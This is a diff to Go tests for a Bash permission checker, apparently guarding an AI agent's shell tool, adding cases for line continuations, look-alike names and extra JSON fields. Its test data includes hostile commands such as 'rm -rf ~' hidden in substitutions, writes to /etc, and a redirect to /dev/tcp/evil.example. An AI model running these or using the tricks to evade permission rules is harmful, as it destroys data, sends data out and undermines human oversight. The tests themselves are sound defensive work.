@@ -166,10 +166,42 @@ func TestAllowBash(t *testing.T) {
 		{ls, "> out", true}, // truncates a file of the workspace, as ls > out does
 		// Not a Bash rule.
 		{[]string{"Edit"}, "ls", false},
+		// Line continuations, and names that only look alike.
+		{ls, "l\\\nl -a", false},
+		{ls, "l\\\ns -a", true},
+		{ls, "ls\u00a0-la;rm", false},
+		{ls, "/bin/ls", false},
+		{ls, "{ ls; } > /etc/x", false},
+		{ls, "ls 2>/etc/x", false},
+		{ls, "ls > /dev/tcp/evil.example/80", false},
+		{ls, "ls > /workspace2/x", false},
+		{ls, "time rm x", false},
+		{ls, "time ls", true},
 	} {
 		if got := allowed(c.rules, c.cmd); got != c.want {
 			t.Errorf("Allow(%q, %q) = %v, want %v", c.rules, c.cmd, got, c.want)
 		}
+	}
+}
+
+// TestBashFields: a field a word rule does not judge makes an input
+// need a rule for every use of Bash.
+func TestBashFields(t *testing.T) {
+	for _, c := range []struct {
+		input string
+		want  bool
+	}{
+		{`{"command":"ls","description":"list","timeout":1000,"run_in_background":true}`, true},
+		{`{"command":"ls","dangerouslyDisableSandbox":true}`, false},
+		{`{"command":["ls"]}`, false},
+		{`{"cmd":"ls"}`, false},
+	} {
+		if _, got := Allow([]string{"Bash(ls *)"}, BashTool, json.RawMessage(c.input), opts); got != c.want {
+			t.Errorf("Allow(Bash(ls *), %s) = %v, want %v", c.input, got, c.want)
+		}
+	}
+	if _, ok := Allow([]string{"Bash"}, BashTool, json.RawMessage(`{"command":"ls","dangerouslyDisableSandbox":true}`), opts); !ok {
+		t.Error("Bash does not allow every use")
 	}
 }
 
@@ -191,6 +223,8 @@ func TestDeny(t *testing.T) {
 		{[]string{"Bash(rm *)"}, "'r'm x", "Bash(rm *)"},
 		{[]string{"Bash(rm *)"}, "ls $(rm -rf ~)", "Bash(rm *)"},
 		{[]string{"Bash(rm *)"}, "ls", ""},
+		{[]string{"Bash(rm *)"}, "/bin/rm -rf ~", "Bash(rm *)"},
+		{[]string{"Bash(rm *)"}, "./x/rm", "Bash(rm *)"},
 		{[]string{"Bash(bash *)"}, "bash -c x", "Bash(bash *)"},
 		{[]string{"Bash(!subst)"}, "ls `id`", "Bash(!subst)"},
 		{[]string{"Bash"}, "ls", "Bash"},
